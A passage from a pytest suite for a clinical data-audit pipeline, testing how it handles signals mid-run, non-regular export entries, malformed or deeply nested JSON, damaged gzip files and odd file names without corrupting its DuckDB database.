    export, name, written = make_export(case, tmp_path, marker)
    code = worker.run(
        _run_args(tmp_path, export, case.fmt, case.threshold),
        tmp_path / "stdout.txt",
        tmp_path / "stderr.txt",
    )
    err = (tmp_path / "stderr.txt").read_text(errors="replace")
    log = (
        (tmp_path / "audit.jsonl").read_text(errors="replace") if (tmp_path / "audit.jsonl").exists() else ""
    )
    problems = []
    if code not in DOCUMENTED or code == 1:
        problems.append(f"exit {code}")
    elif code not in INPUT_CODES:
        problems.append(f"exit {code}, not one an input fault ends in")
    if "Traceback" in err:
        problems.append("traceback on stderr")
    if marker in err:
        problems.append("record text on stderr")
    if marker in log:
        problems.append("record text in the log file")
    problems += _accounting(case, tmp_path, code, name, written)
    if code != 0 and code in DOCUMENTED and db_digest(tmp_path / "audit.duckdb") != before:
        problems.append("database changed by a failed run")
    assert not problems, f"{case.id}: {problems}\n--- stderr ---\n{err[-3000:]}"


def _accounting(case: Case, tmp: Path, code: int | str, name: str, written: bytes) -> list[str]:
    summary_path = tmp / "out" / "summary.json"
    if not summary_path.exists():
        return ["exit 0 without summary.json"] if code == 0 else []
    summary = json.loads(summary_path.read_text())
    problems = []
    for key, f in (summary.get("files") or {}).items():
        parts = f["rows_loaded"] + f["rows_duplicate"] + f["rows_rejected"] + f.get("rows_skipped", 0)
        if f["rows_read"] != parts:
            problems.append(f"{key}: rows_read {f['rows_read']} != {parts} accounted")
    table = _table_of(case)
    if code == 0 and table is not None:
        expected = count_records(name, written)
        got = (summary.get("files") or {}).get(table, {}).get("rows_read")
        if expected is not None and got != expected:
            problems.append(f"{table}: {got} records read, the file holds {expected}")
        if name.endswith(".gz") and gunzipped(written) is None:
            problems.append("a damaged .gz file loaded with exit 0")
    return problems


# --- signals at every phase of a run ------------------------------------------------------------
# A real `python -m pipelines` on the full sample export, stopped by a signal when its -v log says a
# phase has begun. SIGTERM and SIGINT: exit 143 / 130 with one line (or 0 when the run was already
# done), the database as it was or holding the run whole. SIGKILL: no cleanup at all, and still the
# next run succeeds on the same database and lock.

PHASES = [
    "loading patients.csv",
    "loading labs.csv",
    "running the checks",
    "recording the run",
    "writing the outputs",
]
SIGNALS = {"SIGTERM": 143, "SIGINT": 130, "SIGKILL": None}
KILLS = [("SIGTERM", phase) for phase in PHASES] + [
    ("SIGINT", "loading diagnoses.csv"),
    ("SIGINT", "running the checks"),
    ("SIGKILL", "loading labs.csv"),
    ("SIGKILL", "recording the run"),
    ("SIGKILL", "writing the outputs"),
]


def _runs(db: Path) -> list[tuple]:
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute("SELECT run_id, status FROM runs ORDER BY seq").fetchall()


@pytest.fixture(scope="module")
def sample_baseline(tmp_path_factory, worker) -> Path:
    """A database holding one run of the sample export (the export changed a little for the next)."""
    tmp = tmp_path_factory.mktemp("sample-baseline")
    args = run_args(tmp, ROOT / "sample_data" / "clinic_export")
    assert worker.run(args, tmp / "stdout.txt", tmp / "stderr.txt") == 0
    return tmp / "audit.duckdb"


@pytest.mark.parametrize(("signame", "phase"), KILLS, ids=[f"{s}-{p.replace(' ', '_')}" for s, p in KILLS])
def test_a_signal_at_each_phase(tmp_path, worker, sample_baseline, signame, phase):
    db = tmp_path / "audit.duckdb"
    db.write_bytes(sample_baseline.read_bytes())
    before, runs_before = db_digest(db), _runs(db)
    export = tmp_path / "export"
    shutil.copytree(ROOT / "sample_data" / "clinic_export", export)
    with (export / "labs.csv").open("a") as handle:  # a changed export: every file is read again
        handle.write("P0001,2026-11-01,2823-3,Potassium,4.4,mmol/L\n")
    victim = start_cli("-v", *run_args(tmp_path, export), "--reject-threshold", "1")
    seen = []
    assert victim.stderr
    for line in victim.stderr:
        seen.append(line)
        if phase in line:
            victim.send_signal(getattr(signal, signame))
            break
    rest = victim.stderr.read()
    code = victim.wait(timeout=120)
    err = "".join(seen) + rest
    assert "Traceback" not in err, err[-3000:]
    expected = SIGNALS[signame]
    runs_after = _runs(db)
    if expected is None:
        assert code == -signal.SIGKILL or code == 0
    else:
        assert code in (expected, 0), err[-3000:]
        if code == expected:
            assert rest.strip().splitlines()[-1].startswith(f"clinic-audit: stopped by {signame}"), rest
    if runs_after == runs_before:
        assert db_digest(db) == before, "the database changed without a run recorded"
    else:  # the signal came after the commit: the run is there whole
        assert runs_after[:-1] == runs_before and runs_after[-1][1] == "succeeded"
    again = worker.run(
        run_args(tmp_path, export),
        tmp_path / "stdout2.txt",
        tmp_path / "stderr2.txt",
    )
    assert again == 0, (tmp_path / "stderr2.txt").read_text()[-3000:]


# --- export entries that are not files ----------------------------------------------------------
# A name the format reads, held by something that is not a regular file: a link to /dev/zero (never
# ends), a named pipe (blocks whoever opens it), a link to nothing, a folder; and a link to a real
# file elsewhere, which is read like the file itself.

ENTRIES = ["dev_zero", "fifo", "dangling_link", "folder", "link_to_file"]
ENTRY_CASES = [
    (fmt, file, kind)
    for fmt, spec in FORMATS.items()
    for file in (spec["main"], next(f for f in spec["files"] if f != spec["main"]))
    for kind in ENTRIES
]


def _replace_entry(path: Path, kind: str, elsewhere: Path) -> None:
    data = path.read_bytes()
    path.unlink()
    if kind == "dev_zero":
        path.symlink_to("/dev/zero")
    elif kind == "fifo":
        os.mkfifo(path)
    elif kind == "dangling_link":
        path.symlink_to(elsewhere / "gone.csv")
    elif kind == "folder":
        path.mkdir()
    else:
        (elsewhere / "real").write_bytes(data)
        path.symlink_to(elsewhere / "real")


@pytest.mark.parametrize(
    ("fmt", "file", "kind"), ENTRY_CASES, ids=[f"{f}-{Path(n).name}-{k}" for f, n, k in ENTRY_CASES]
)
def test_an_export_entry_that_is_not_a_file(tmp_path, worker, baselines, fmt, file, kind):
    tmp_path.joinpath("audit.duckdb").write_bytes(baselines(fmt).read_bytes())
    before = db_digest(tmp_path / "audit.duckdb")
    export = tmp_path / "export"
    shutil.copytree(_base_folder(fmt), export)
    (tmp_path / "elsewhere").mkdir()
    _replace_entry(export / file, kind, tmp_path / "elsewhere")
    code = worker.run(_run_args(tmp_path, export, fmt, "1"), tmp_path / "stdout.txt", tmp_path / "stderr.txt")
    err = (tmp_path / "stderr.txt").read_text(errors="replace")
    assert "Traceback" not in err
    if kind == "link_to_file":
        assert code == 0, err[-2000:]
        return
    assert code == 3, err[-2000:]
    assert Path(file).name in err  # the message names the entry
    assert db_digest(tmp_path / "audit.duckdb") == before


# --- regressions the campaign found, one named test each (in-process, quick) --------------------


def _fhir_export(tmp: Path, lines: dict[int, bytes] | None = None, gz: bool = False) -> Path:
    """The real FHIR export; `lines` replaces or inserts (index: bytes) lines of Observation."""
    export = tmp / "export"
    shutil.copytree(REAL / "fhir", export, ignore=shutil.ignore_patterns("*.md"))
    path = export / "Observation.000.ndjson"
    rows = path.read_bytes().splitlines()
    for index, text in sorted((lines or {}).items()):
        rows.insert(index, text)
    data = b"\n".join(rows) + b"\n"
    path.write_bytes(data)
    if gz:
        path.unlink()
        (export / "Observation.000.ndjson.gz").write_bytes(gzip.compress(data, mtime=0))
    return export


def _fhir_run(tmp: Path, export: Path, capsys) -> tuple[int, str]:
    from tests.helpers import cli, run_args

    code = cli(*run_args(tmp, export, "--reject-threshold", "1", "--checks", CHECK))
    return code, capsys.readouterr().err


def _quarantine(tmp: Path, file: str) -> list[tuple]:
    with duckdb.connect(str(tmp / "audit.duckdb"), read_only=True) as con:
        return con.execute(
            "SELECT line, rule FROM quarantine WHERE file = $f ORDER BY line", {"f": file}
        ).fetchall()


def _labs_read(tmp: Path) -> int:
    return json.loads((tmp / "out" / "summary.json").read_text())["files"]["labs"]["rows_read"]


@pytest.mark.parametrize(
    "line",
    [
        codecs.BOM_UTF8 + b'{"resourceType":"Observation","id":"QZBOM","status":"final"}',
        b'{"resourceType":"Observation","id":"QZ\\ud800","status":"final"}',  # a lone surrogate
    ],
    ids=["bom-starting-a-later-line", "lone-surrogate"],
)
def test_a_fhir_line_python_reads_but_duckdb_does_not_is_quarantined_not_lost(tmp_path, capsys, line):
    """Found: Python's json took the line, DuckDB's did not, so it was neither staged nor quarantined
    (12 of 13 records read, exit 0)."""
    code, err = _fhir_run(tmp_path, _fhir_export(tmp_path, {4: line}), capsys)
    assert code == 0, err
    assert _quarantine(tmp_path, "Observation.000.ndjson") == [(5, "malformed_json")]
    assert _labs_read(tmp_path) == 14 and "QZ" not in err


def test_deeply_nested_json_is_quarantined_not_an_internal_error(tmp_path, capsys):
    """Found: a line nested 5000 deep raised RecursionError (exit 1)."""
    deep = b"[" * 5000 + b"1" + b"]" * 5000
    code, err = _fhir_run(tmp_path, _fhir_export(tmp_path, {2: deep}), capsys)
    assert code == 0 and "internal error" not in err, err
    assert _quarantine(tmp_path, "Observation.000.ndjson") == [(3, "not_a_resource")]
    assert _labs_read(tmp_path) == 14


def test_deeply_nested_json_on_the_first_line_is_quarantined_in_a_file_its_name_types(tmp_path, capsys):
    deep = b"[" * 5000 + b"1" + b"]" * 5000
    code, err = _fhir_run(tmp_path, _fhir_export(tmp_path, {0: deep}), capsys)
    assert code == 0 and "internal error" not in err, err
    assert _quarantine(tmp_path, "Observation.000.ndjson") == [(1, "not_a_resource")]
    assert _labs_read(tmp_path) == 14


def test_deeply_nested_json_on_the_first_line_of_a_file_no_name_types_is_exit_3(tmp_path, capsys):
    deep = b"[" * 5000 + b"1" + b"]" * 5000
    export = _fhir_export(tmp_path, {0: deep})
    (export / "Observation.000.ndjson").rename(export / "part-000.ndjson")
    code, err = _fhir_run(tmp_path, export, capsys)
    assert code == 3 and "part-000.ndjson: line 1 is not a FHIR resource" in err, err


def _second_night(tmp_path: Path, export: Path, path: Path, damage: Callable[[bytes], bytes], capsys) -> str:
    from tests.helpers import cli

    args = [
        "run",
        "--exports",
        str(export),
        "--out",
        str(tmp_path / "out"),
        "--db",
        str(tmp_path / "audit.duckdb"),
    ]
    args += ["--as-of", FORMATS["mimic"]["as_of"] if "hosp" in str(path) else "2026-11-20", "--checks", CHECK]
    assert cli(*args) == 0
    before = db_digest(tmp_path / "audit.duckdb")
    path.write_bytes(damage(gzip.compress(gzip.decompress(path.read_bytes()) + b"\n", mtime=0)))
    capsys.readouterr()
    assert cli(*args) == 3
    assert db_digest(tmp_path / "audit.duckdb") == before
    return capsys.readouterr().err


@pytest.mark.parametrize(
    "damage",
    [lambda d: d[: len(d) - 20], lambda d: d[:-8] + bytes([d[-8] ^ 1]) + d[-7:]],
    ids=["truncated", "bad-crc"],
)
def test_a_damaged_mimic_gz_on_a_second_night_is_exit_3_naming_it(tmp_path, capsys, damage):
    """Found: with a previous run the volume guard read the .gz first; a truncated one ended as
    'stopped by SIGINT' (exit 130: click turns EOFError into Abort), a bad CRC as exit 6 'cannot use
    this file or folder (None)'."""
    export = tmp_path / "export"
    export.mkdir()
    _mimic(export)
    err = _second_night(tmp_path, export, export / "hosp" / "labevents.csv.gz", damage, capsys)
    assert "labevents.csv.gz: cannot be read (" in err and "gzip file)" in err, err
    assert "SIGINT" not in err and "Traceback" not in err


def test_a_damaged_fhir_gz_on_a_second_night_is_exit_3_naming_it(tmp_path, capsys):
    export = _fhir_export(tmp_path, gz=True)
    err = _second_night(
        tmp_path, export, export / "Observation.000.ndjson.gz", lambda d: d[: len(d) - 20], capsys
    )
    assert "Observation.000.ndjson.gz" in err and "Traceback" not in err, err


def test_an_eof_error_escaping_a_command_is_bad_input_not_sigint(tmp_path, capsys, monkeypatch):
    """Click turns an EOFError into Abort, which read as Ctrl-C (exit 130)."""
    from pipelines import run
    from tests.helpers import cli, run_args

    def truncated(*args, **kwargs):
        raise EOFError("Compressed file ended before the end-of-stream marker was reached")

    monkeypatch.setattr(run, "preflight", truncated)
    assert cli(*run_args(tmp_path, ROOT / "sample_data" / "clinic_export")) == 3
    err = capsys.readouterr().err
    assert "truncated or damaged gzip file" in err and "SIGINT" not in err


@pytest.mark.parametrize("kind", ["dev_zero", "fifo", "dangling_link", "folder"])
def test_an_optional_export_file_that_is_not_a_regular_file_is_refused(tmp_path, capsys, kind):
    """Found: patients.csv (optional) as a link to /dev/zero was passed over as absent: exit 0, every
    death and birth date lost."""
    from tests.helpers import cli, run_args

    export = tmp_path / "export"
    shutil.copytree(ROOT / "sample_data" / "clinic_export", export)
    (tmp_path / "elsewhere").mkdir()
    _replace_entry(export / "patients.csv", kind, tmp_path / "elsewhere")
    assert cli(*run_args(tmp_path, export, "--checks", CHECK)) == 3
    assert "patients.csv: not a regular file" in capsys.readouterr().err
    assert not (tmp_path / "audit.duckdb").exists()


def test_a_file_name_with_a_wildcard_is_refused_not_read_as_a_pattern(tmp_path, capsys):
    """Found: DuckDB reads a path as a glob: 'Observation*.ndjson' beside Observation.000.ndjson read
    that file twice (39 records of 26, its rows loaded twice, exit 0)."""
    export = _fhir_export(tmp_path)
    shutil.copyfile(export / "Observation.000.ndjson", export / "Observation*.ndjson")
    code, err = _fhir_run(tmp_path, export, capsys)
    assert code == 3 and "Observation*.ndjson: the path holds a wildcard" in err, err


def test_an_export_folder_with_a_wildcard_is_refused_not_read_as_another(tmp_path, capsys):
    """'export[1]' as a pattern names export1: the tool must not read a neighbour's files."""
    from tests.helpers import cli, run_args

    for name in ("export[1]", "export1"):
        shutil.copytree(ROOT / "sample_data" / "clinic_export", tmp_path / name)
    assert cli(*run_args(tmp_path, tmp_path / "export[1]", "--checks", CHECK)) == 3
    assert "the path holds a wildcard" in capsys.readouterr().err
    assert not (tmp_path / "audit.duckdb").exists()


def test_a_file_name_that_is_not_utf8_is_named_as_the_cause(tmp_path, capsys):
    """Found: a Latin-1 file name was reported as 'not valid UTF-8 text' of the file's content."""
    export = _fhir_export(tmp_path)
    os.rename(export / "Observation.000.ndjson", os.fsencode(export) + b"/Observation\xe9.ndjson")
    code, err = _fhir_run(tmp_path, export, capsys)
    assert code == 3 and "Observation\\xe9.ndjson: the file or folder name is not valid UTF-8" in err, err


def test_a_fhir_gz_with_a_bad_crc_is_refused(tmp_path, capsys):
    """Found: DuckDB's gzip reader ignores the trailer's CRC, so a corrupted Observation.ndjson.gz
    loaded with exit 0 (MIMIC's, read by Python's gzip too, was refused)."""
    export = _fhir_export(tmp_path, gz=True)
    path = export / "Observation.000.ndjson.gz"
    data = bytearray(path.read_bytes())
    data[-8] ^= 1
    path.write_bytes(bytes(data))
    code, err = _fhir_run(tmp_path, export, capsys)
    assert code == 3 and "Observation.000.ndjson.gz: cannot be read (a truncated or damaged gzip file)" in err


def test_a_mimic_lookup_file_duckdb_cannot_read_on_a_second_night_is_exit_3(tmp_path, capsys):
    """Found: admissions.csv.gz with mixed line ends, read first by the duplicate-key warning,
    ended as an internal error (exit 1, InvalidInputException)."""
    export = tmp_path / "export"
    export.mkdir()
    _mimic(export)
    path = export / "hosp" / "admissions.csv.gz"

    def mixed(data: bytes) -> bytes:
        text = gzip.decompress(data).split(b"\n")
        return gzip.compress(b"\r\n".join(text[:2]) + b"\n" + b"\n".join(text[2:]), mtime=0)

    err = _second_night(tmp_path, export, path, mixed, capsys)
    assert "admissions.csv.gz: " in err and "internal error" not in err, err


def test_a_fhir_file_whose_first_line_is_no_resource_is_read_as_its_name_says_not_passed_over(
    tmp_path, capsys
):
    """Found: Patient.000.ndjson starting with a JSON string was passed over as a file of no known
    type: exit 0 with no patients read (every death and birth date lost). Then it was refused (exit
    3) for one bad line: its name says Patient, so the line is quarantined and the rest loads."""
    export = _fhir_export(tmp_path)
    path = export / "Patient.000.ndjson"
    patients = len(path.read_bytes().splitlines())
    path.write_bytes(b'"QZTEXT"\n' + path.read_bytes())
    code, err = _fhir_run(tmp_path, export, capsys)
    assert code == 0, err
    assert _quarantine(tmp_path, "Patient.000.ndjson") == [(1, "not_a_resource")]
    with duckdb.connect(str(tmp_path / "audit.duckdb"), read_only=True) as con:
        assert con.execute("SELECT count(*) FROM patients").fetchall() == [(patients,)]
    assert "QZTEXT" not in err


def test_a_fhir_file_no_name_types_whose_first_line_is_no_resource_is_refused(tmp_path, capsys):
    export = _fhir_export(tmp_path)
    path = export / "Patient.000.ndjson"
    (export / "export-0.ndjson").write_bytes(b'"QZTEXT"\n' + path.read_bytes())
    path.unlink()
    code, err = _fhir_run(tmp_path, export, capsys)
    assert code == 3 and "export-0.ndjson: line 1 is not a FHIR resource" in err, err
    assert "QZTEXT" not in err
